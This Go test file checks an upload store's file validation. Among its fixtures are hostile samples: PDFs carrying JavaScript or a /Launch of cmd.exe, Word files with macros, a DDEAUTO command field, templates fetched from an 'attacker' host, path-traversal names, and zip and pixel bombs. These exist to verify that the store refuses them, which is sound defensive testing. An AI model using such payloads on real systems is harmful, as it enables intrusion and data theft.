package file

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fengsheng/internal/fault"
)

var morning = time.Date(2024, 5, 8, 9, 0, 0, 0, time.UTC)

func store(t testing.TB) *Store {
	t.Helper()
	return At(filepath.Join(t.TempDir(), Folder), func() time.Time { return morning })
}

// receive hands a file to the store.
func receive(t testing.TB, s *Store, name string, body []byte) (Received, error) {
	t.Helper()
	return s.Receive(context.Background(), Incoming{Name: name, Size: int64(len(body)), Content: bytes.NewReader(body), Original: strings.HasPrefix(name, "evidence")})
}

func read(t testing.TB, s *Store, r Ref) []byte {
	t.Helper()
	f, err := s.Open(r)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	all, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// photo is a picture, red to the left and blue to the right.
func photo(w, h int) image.Image {
	m := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.RGBA{R: 0xff, A: 0xff}
			if x >= w/2 {
				c = color.RGBA{B: 0xff, A: 0xff}
			}
			m.SetRGBA(x, y, c)
		}
	}
	return m
}

func jpegOf(w, h int) []byte {
	var out bytes.Buffer
	if err := jpeg.Encode(&out, photo(w, h), nil); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// webpOf is one white point.
func webpOf() []byte {
	all, err := base64.StdEncoding.DecodeString("UklGRh4AAABXRUJQVlA4TBEAAAAvAAAAAAfQ//73v/+BiOh/AAA=")
	if err != nil {
		panic(err)
	}
	return all
}

func pngOf(w, h int) []byte {
	var out bytes.Buffer
	if err := png.Encode(&out, photo(w, h)); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// withEXIF puts an orientation and a place into a JPEG.
func withEXIF(body []byte, orientation uint16) []byte {
	b := binary.BigEndian
	tiff := []byte("MM\x00*\x00\x00\x00\x08\x00\x02")
	tiff = b.AppendUint16(tiff, 0x0112)
	tiff = b.AppendUint16(tiff, 3)
	tiff = b.AppendUint32(tiff, 1)
	tiff = b.AppendUint16(tiff, orientation)
	tiff = append(tiff, 0, 0)
	tiff = b.AppendUint16(tiff, 0x8825)
	tiff = b.AppendUint16(tiff, 4)
	tiff = b.AppendUint32(tiff, 1)
	tiff = b.AppendUint32(tiff, 38)
	tiff = append(tiff, "\x00\x00\x00\x00GPS 43.8930 125.3269 canary"...)
	app := append([]byte("Exif\x00\x00"), tiff...)
	head := b.AppendUint16([]byte("\xff\xd8\xff\xe1"), uint16(len(app)+2))
	return append(append(head, app...), body[2:]...)
}

func pdfOf(objects ...string) []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>\nendobj\n")
	out.WriteString("3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n4 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n")
	for i, o := range objects {
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+5, o)
	}
	out.WriteString("trailer\n<< /Root 1 0 R >>\n%%EOF\n")
	return out.Bytes()
}

func packed(text string) string {
	var out bytes.Buffer
	z := zlib.NewWriter(&out)
	_, _ = io.WriteString(z, text)
	_ = z.Close()
	return out.String()
}

// part is a part of an office file.
type officePart struct{ name, text string }

func officeOf(parts ...officePart) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, p := range parts {
		w, err := z.Create(p.name)
		if err != nil {
			panic(err)
		}
		_, _ = io.WriteString(w, p.text)
	}
	_ = z.Close()
	return out.Bytes()
}

func docxOf(more ...officePart) []byte {
	return officeOf(append([]officePart{
		{"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`},
		{"word/document.xml", `<w:document xmlns:w="w"><w:body><w:p>收条</w:p></w:body></w:document>`},
	}, more...)...)
}

func boxOf(name string, body ...[]byte) []byte {
	all := bytes.Join(body, nil)
	return append(append(binary.BigEndian.AppendUint32(nil, uint32(len(all)+8)), name...), all...)
}

func mp4Of(brand string) []byte {
	return bytes.Join([][]byte{
		boxOf("ftyp", []byte(brand+"\x00\x00\x00\x00")),
		boxOf("moov", boxOf("mvhd", make([]byte, 20)), boxOf("trak", boxOf("udta", []byte("canary +43.8930+125.3269/"))), boxOf("udta", []byte("canary +43.8930+125.3269/"))),
		boxOf("mdat", []byte("sound and pictures")),
	}, nil)
}

// mp3Of is silence: frames of layer III, 128 kbit/s at 44.1 kHz.
func mp3Of(frames int) []byte {
	frame := make([]byte, 417)
	copy(frame, "\xff\xfb\x90\x00")
	return append([]byte("ID3\x04\x00\x00\x00\x00\x00\x06canary"), bytes.Repeat(frame, frames)...)
}

func TestSEC_UP_01_WhatIsLetIn(t *testing.T) {
	t.Parallel()
	s := store(t)
	for _, c := range []struct {
		name, called string
		kind         Kind
		pages        int
		body         []byte
	}{
		{"收条.JPG", "收条.jpg", JPEG, 1, jpegOf(40, 30)},
		{"聊天.png", "聊天.png", PNG, 1, pngOf(40, 30)},
		{"a.webp", "a.jpg", JPEG, 1, webpOf()},
		{`C:\fakepath\合同.pdf`, "合同.pdf", PDF, 2, pdfOf()},
		{"../../etc/passwd.docx", "passwd.docx", DOCX, 3, docxOf(officePart{"docProps/app.xml", "<Properties><Pages>3</Pages></Properties>"})},
		{"表.xlsx", "表.xlsx", XLSX, 1, officeOf(officePart{"[Content_Types].xml", "<Types/>"}, officePart{"xl/workbook.xml", "<workbook/>"})},
		{"录音.mp3", "录音.mp3", MP3, 1, mp3Of(20)},
		{"录音.m4a", "录音.m4a", M4A, 1, mp4Of("M4A ")},
		{"手机录音.m4a", "手机录音.m4a", M4A, 1, mp4Of("mp42")},
		{"现场.mp4", "现场.mp4", MP4, 1, mp4Of("isom")},
		{"<script>.pdf", "script.pdf", PDF, 2, pdfOf()},
		{".pdf", "未命名.pdf", PDF, 2, pdfOf()},
		{"收条\u0000\n.pdf", "收条.pdf", PDF, 2, pdfOf()},
	} {
		got, err := receive(t, s, c.name, c.body)
		if err != nil || got.Name != c.called || got.Kind != c.kind || got.Pages != c.pages {
			t.Errorf("%s: got %q, %s, %d pages, %v; want %q, %s, %d", c.name, got.Name, got.Kind, got.Pages, err, c.called, c.kind, c.pages)
			continue
		}
		body := read(t, s, got.Ref)
		if int64(len(body)) != got.Size || bytes.Contains(body, []byte("canary")) {
			t.Errorf("%s: stored %d bytes, said %d; or what nobody meant to send is still there", c.name, len(body), got.Size)
		}
	}
}

func TestSEC_UP_01_WhatIsRefused(t *testing.T) {
	t.Parallel()
	s := store(t)
	flate := "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + packed("9 0 << /S /JavaScript /JS (app.alert(1)) >>") + "\nendstream"
	rels := func(target, kind string) []byte {
		return docxOf(officePart{"word/_rels/document.xml.rels", `<Relationships><Relationship Id="r" Type="http://x/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`})
	}
	for _, c := range []struct {
		what, name, says string
		body             []byte
	}{
		{"nothing", "空.pdf", "是空的", nil},
		{"21 MB", "大.pdf", "最多20MB", bytes.Repeat([]byte("x"), 21<<20)},
		{"an ending we do not take", "a.exe", "不能上传", []byte("MZ")},
		{"no ending", "照片", "不能上传", jpegOf(4, 4)},
		{"a drawing that is a page", "a.svg", "不能上传", []byte("<svg onload='alert(1)'/>")},
		{"a page called a picture", "a.png", "内容和名字对不上", []byte("<html><script>alert(1)</script>")},
		{"a PDF called a picture", "a.jpg", "内容和名字对不上", pdfOf()},
		{"a picture called a PDF", "a.pdf", "内容和名字对不上", jpegOf(4, 4)},
		{"HEIC", "IMG_1.HEIC", "兼容性最佳", append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 100)...)},
		{"HEIC called JPEG", "IMG_1.jpg", "兼容性最佳", append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 100)...)},
		{"half a picture", "a.jpg", "没有传完整", jpegOf(400, 400)[:700]},
		{"a pixel bomb", "a.png", "个像素", bombPNG(30000, 30000)},
		{"a long pixel bomb", "a.png", "个像素", bombPNG(60000, 10)},
		{"a PDF that is a zip as well", "a.pdf", "藏着", append(pdfOf(), docxOf()...)},
		{"a PDF with more behind it", "a.pdf", "藏着", append(pdfOf(), bytes.Repeat([]byte("x"), 4000)...)},
		{"a document with a page before it", "a.docx", "对不上", append([]byte("<html>"), docxOf()...)},
		{"a document with more behind it", "a.docx", "藏着", append(docxOf(), "<html>"...)},
		{"a document that is a PDF as well", "a.docx", "藏着", officeOf(officePart{"%PDF-1.7", ""}, officePart{"[Content_Types].xml", ""}, officePart{"word/document.xml", ""})},
		{"a film that is a zip as well", "a.mp4", "藏着", append(mp4Of("isom"), boxOf("free", docxOf())...)},
		{"a film that goes on", "a.mp4", "打不开", append(mp4Of("isom"), "PK"...)},
		{"half a film", "a.mp4", "打不开", mp4Of("isom")[:60]},
		{"a film without a table", "a.mp4", "打不开", boxOf("ftyp", []byte("isom\x00\x00\x00\x00"))},
		{"sound that is none", "a.mp3", "打不开", append([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), "<html><script>"...)},
		{"sound with a zip behind it", "a.mp3", "藏着", append(mp3Of(20), docxOf()...)},
		{"PDF: script", "a.pdf", "脚本", pdfOf("<< /S /JavaScript /JS (app.alert(1)) >>")},
		{"PDF: script, escaped", "a.pdf", "脚本", pdfOf("<< /S /J#61vaScrip#74 /JS (app.alert(1)) >>")},
		{"PDF: script in an object stream", "a.pdf", "脚本", pdfOf(flate)},
		{"PDF: script where a picture should be", "a.pdf", "脚本", pdfOf(strings.Replace(flate, "/Type", "/Subtype /Image /Type", 1))},
		{"PDF: objects packed twice", "a.pdf", "没法检查", pdfOf(strings.Replace(flate, "/FlateDecode", "[/ASCIIHexDecode /FlateDecode]", 1))},
		{"PDF: objects behind a predictor", "a.pdf", "没法检查", pdfOf(strings.Replace(flate, "/First", "/DecodeParms << /Predictor 12 >> /First", 1))},
		{"PDF: a program", "a.pdf", "别的程序", pdfOf("<< /S /Launch /F (cmd.exe) >>")},
		{"PDF: a file within", "a.pdf", "夹带", pdfOf("<< /Names << /EmbeddedFiles 9 0 R >> >>")},
		{"PDF: a password", "a.pdf", "密码", pdfOf("<< /Encrypt 9 0 R >>")},
		{"PDF: unpacks to a gigabyte", "a.pdf", "太大", pdfOf("<< /Filter /FlateDecode >>\nstream\n" + packed(strings.Repeat("\x00", 300<<20)) + "\nendstream")},
		{"half a PDF", "a.pdf", "没有传完整", pdfOf()[:80]},
		{"a zip called a document", "a.docx", "不是Word文档", officeOf(officePart{"a.txt", "x"})},
		{"a table called a document", "a.docx", "不是Word文档", officeOf(officePart{"[Content_Types].xml", ""}, officePart{"xl/workbook.xml", ""})},
		{"a macro", "a.docx", "宏", docxOf(officePart{"word/vbaProject.bin", "x"})},
		{"a macro by its type", "a.docx", "宏", docxOf(officePart{"word/x.xml", `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`})},
		{"a template from elsewhere", "a.docx", "外部链接", rels("http://attacker/t.dotm", "attachedTemplate")},
		{"a picture from elsewhere", "a.docx", "外部链接", rels(`\\attacker\x.png`, "image")},
		{"a link to a file", "a.docx", "外部链接", rels("file:///etc/passwd", "hyperlink")},
		{"links of a table", "a.xlsx", "外部链接", officeOf(officePart{"[Content_Types].xml", ""}, officePart{"xl/workbook.xml", ""}, officePart{"xl/externalLinks/externalLink1.xml", ""})},
		{"a field that runs a program", "a.docx", "外部链接", docxOf(officePart{"word/x.xml", `<w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText>`})},
		{"a file within", "a.docx", "嵌着", docxOf(officePart{"word/embeddings/oleObject1.bin", "x"})},
		{"a zip within", "a.docx", "嵌着", docxOf(officePart{"word/a.zip", "x"})},
		{"a part that climbs", "a.docx", "打不开", docxOf(officePart{"../../x.xml", "x"})},
		{"two parts of one name", "a.docx", "打不开", docxOf(officePart{"word/Document.xml", "x"})},
		{"a document type", "a.docx", "打不开", docxOf(officePart{"word/x.xml", `<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>`})},
		{"a zip bomb", "a.docx", "大得不正常", docxOf(officePart{"word/x.xml", strings.Repeat(" ", 30<<20)})},
		{"a deep one", "a.docx", "大得不正常", docxOf(officePart{"word/x.xml", strings.Repeat("<a>", 5000)})},
		{"three thousand parts", "a.docx", "大得不正常", docxOf(manyParts(3000)...)},
		{"half a document", "a.docx", "藏着", docxOf()[:200]},
	} {
		got, err := receive(t, s, c.name, c.body)
		if f := fault.Of(err); f == nil || !strings.Contains(f.Message, c.says) {
			t.Errorf("%s: got %v, %v; want a sentence that says %q", c.what, got.Name, err, c.says)
		}
	}
	if left := stored(t, s); len(left) > 0 {
		t.Errorf("what was refused is stored: %v", left)
	}
}

// stored are the files in the store.
func stored(t testing.TB, s *Store) []string {
	t.Helper()
	var all []string
	err := filepath.WalkDir(s.dir, func(path string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			all = append(all, path)
		}
		if errors.Is(err, fs.ErrNotExist) {
			return nil
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func manyParts(n int) []officePart {
	all := make([]officePart, n)
	for i := range all {
		all[i] = officePart{fmt.Sprintf("word/%d.xml", i), ""}
	}
	return all
}

// bombPNG says it is large and holds nothing.
func bombPNG(w, h uint32) []byte {
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32([]byte("IHDR"), w), h)
	head = append(head, 8, 2, 0, 0, 0)
	out := binary.BigEndian.AppendUint32([]byte("\x89PNG\r\n\x1a\n"), 13)
	return binary.BigEndian.AppendUint32(append(out, head...), crc32.ChecksumIEEE(head))
}

func TestSEC_UP_03_NothingHiddenStaysInAPicture(t *testing.T) {
	t.Parallel()
	s := store(t)
	body := withEXIF(jpegOf(400, 200), 6)
	body = append(body, "PK\x05\x06 canary behind the picture"...)
	got, err := receive(t, s, "evidence.jpg", body)
	if err != nil {
		t.Fatal(err)
	}
	shown := read(t, s, got.Ref)
	for _, hidden := range []string{"Exif", "GPS", "canary", "PK\x05\x06"} {
		if bytes.Contains(shown, []byte(hidden)) {
			t.Errorf("%q is still in the picture", hidden)
		}
	}
	m, err := jpeg.Decode(bytes.NewReader(shown))
	if err != nil {
		t.Fatal(err)
	}
	// Turned to the right, what was on the left is on top.
	if r, _, b, _ := m.At(100, 50).RGBA(); m.Bounds().Dx() != 200 || m.Bounds().Dy() != 400 || r < b {
		t.Errorf("got %v, red %d and blue %d on top; want 200×400, red on top", m.Bounds(), r, b)
	}
	if got.Original == nil || !bytes.Equal(read(t, s, got.Original.Ref), body) {
		t.Error("the original of evidence is not kept as it came")
	}
	for _, file := range stored(t, s) {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(raw, []byte("canary")) || bytes.Contains(raw, []byte("\xff\xd8\xff")) {
			t.Errorf("%s is not sealed", file)
		}
	}
}

func TestAPictureIsTurnedInEightWays(t *testing.T) {
	t.Parallel()
	m := image.NewRGBA(image.Rect(0, 0, 3, 2))
	m.SetRGBA(0, 0, color.RGBA{R: 0xff, A: 0xff}) // the corner above on the left, as it is stored
	for way, corner := range []image.Point{1: {0, 0}, 2: {2, 0}, 3: {2, 1}, 4: {0, 1}, 5: {0, 0}, 6: {1, 0}, 7: {1, 2}, 8: {0, 2}} {
		if way == 0 {
			continue
		}
		if got := upright(m, way); got.RGBAAt(corner.X, corner.Y).R != 0xff {
			t.Errorf("way %d: the corner is not at %v", way, corner)
		}
	}
}

func TestPicturesAreKeptSmall(t *testing.T) {
	t.Parallel()
	for _, c := range [][4]int{{4000, 3000, 2400, 1800}, {3000, 4000, 1800, 2400}, {1080, 20000, 929, 17213}, {2000, 9000, 1200, 5400}, {600, 400, 600, 400}, {1, 50000, 1, 50000}} {
		if w, h := fitted(c[0], c[1]); w != c[2] || h != c[3] {
			t.Errorf("%d×%d: got %d×%d, want %d×%d", c[0], c[1], w, h, c[2], c[3])
		}
	}
	s := store(t)
	got, err := receive(t, s, "a.jpg", jpegOf(3000, 2000))
	if err != nil {
		t.Fatal(err)
	}
	if head, err := jpeg.DecodeConfig(bytes.NewReader(read(t, s, got.Ref))); err != nil || head.Width != 2400 || head.Height != 1600 {
		t.Errorf("got %d×%d, %v", head.Width, head.Height, err)
	}
}

func TestSEC_UP_02_OnlyOrphansAreSwept(t *testing.T) {
	t.Parallel()
	now := morning
	s := At(filepath.Join(t.TempDir(), Folder), func() time.Time { return now })
	if n, err := s.Sweep(now, nil); n != 0 || err != nil {
		t.Errorf("a store without a file: swept %d, %v", n, err)
	}
	put := func() string {
		got, err := s.Put(context.Background(), strings.NewReader("材料"))
		if err != nil {
			t.Fatal(err)
		}
		return got.Ref.ID
	}
	kept, orphan := put(), put()
	now = now.Add(Grace)
	fresh := put()
	half := s.path(put()) // a crash before the name was given
	if err := os.Rename(half, half+partial); err != nil {
		t.Fatal(err)
	}
	referred := func(id string) bool { return id == kept }
	if n, err := s.Sweep(now, referred); n != 0 || err != nil {
		t.Errorf("within a day: swept %d, %v", n, err)
	}
	if n, err := s.Sweep(now.Add(time.Minute), referred); n != 1 || err != nil || s.Has(orphan) || !s.Has(kept) || !s.Has(fresh) {
		t.Errorf("after a day: swept %d, %v; want the orphan alone", n, err)
	}
	if n, err := s.Sweep(now.Add(2*Grace), referred); n != 2 || err != nil || len(stored(t, s)) != 1 {
		t.Errorf("later: swept %d, %v, left %v", n, err, stored(t, s))
	}
	// A file that breaks off leaves nothing.
	if _, err := s.Put(context.Background(), io.MultiReader(strings.NewReader("x"), broken{})); err == nil || len(stored(t, s)) != 1 {
		t.Errorf("a broken upload: %v, left %v", err, stored(t, s))
	}
}

type broken struct{}

func (broken) Read([]byte) (int, error) { return 0, io.ErrClosedPipe }

func FuzzReceive(f *testing.F) {
	for name, body := range map[string][]byte{
		"a.jpg": withEXIF(jpegOf(8, 8), 3), "a.png": pngOf(8, 8), "a.pdf": pdfOf("<< /Filter /FlateDecode >>\nstream\n" + packed("/Type /Page") + "\nendstream"),
		"a.docx": docxOf(), "a.mp3": mp3Of(4), "a.mp4": mp4Of("isom"), "a.m4a": mp4Of("M4A "), "a.xlsx": docxOf(),
	} {
		f.Add(name, body)
	}
	f.Add("a.webp", webpOf())
	s := store(f)
	f.Fuzz(func(t *testing.T, name string, body []byte) {
		got, err := receive(t, s, name, body)
		if err != nil {
			if fault.Of(err) == nil {
				t.Fatalf("%q: %v", name, err)
			}
			return
		}
		if strings.ContainsAny(got.Name, "/\\\x00\n\"<>") || got.Kind.MIME() == "" {
			t.Fatalf("got %q, %s", got.Name, got.Kind)
		}
		if n := int64(len(read(t, s, got.Ref))); n != got.Size || got.Kind != JPEG && got.Kind != PNG && n != int64(len(body)) {
			t.Fatalf("stored %d bytes of %d, said %d", n, len(body), got.Size)
		}
		if err := os.RemoveAll(s.dir); err != nil {
			t.Fatal(err)
		}
	})
}
